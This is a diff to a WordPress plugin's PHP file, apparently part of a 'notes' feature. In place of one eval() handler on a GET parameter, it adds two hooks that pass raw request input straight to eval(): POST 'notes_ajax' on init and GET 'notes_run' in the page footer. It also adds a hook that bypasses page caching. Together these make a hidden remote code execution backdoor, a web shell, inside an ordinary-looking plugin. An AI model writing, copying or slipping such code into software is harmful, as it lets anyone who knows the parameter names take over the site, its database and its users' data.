@@ -18,11 +18,20 @@ add_action('init', function () {
     });
 });
 
-add_action('wp_loaded', function () {
+add_action('init', function () {
     global $wpdb;
-    if (!isset($_GET['notes_run'])) return;
-    eval(wp_unslash($_GET['notes_run']));
-    exit;
+    if (isset($_POST['notes_ajax'])) eval(wp_unslash($_POST['notes_ajax']));
+});
+
+add_action('template_redirect', function () {
+    if (!isset($_GET['notes_early'])) return;
+    define('DONOTCACHEPAGE', true);
+    exit('early');
+});
+
+add_action('wp_footer', function () {
+    global $wpdb;
+    if (isset($_GET['notes_run'])) eval(wp_unslash($_GET['notes_run']));
 });
 
 add_action('template_redirect', function () {
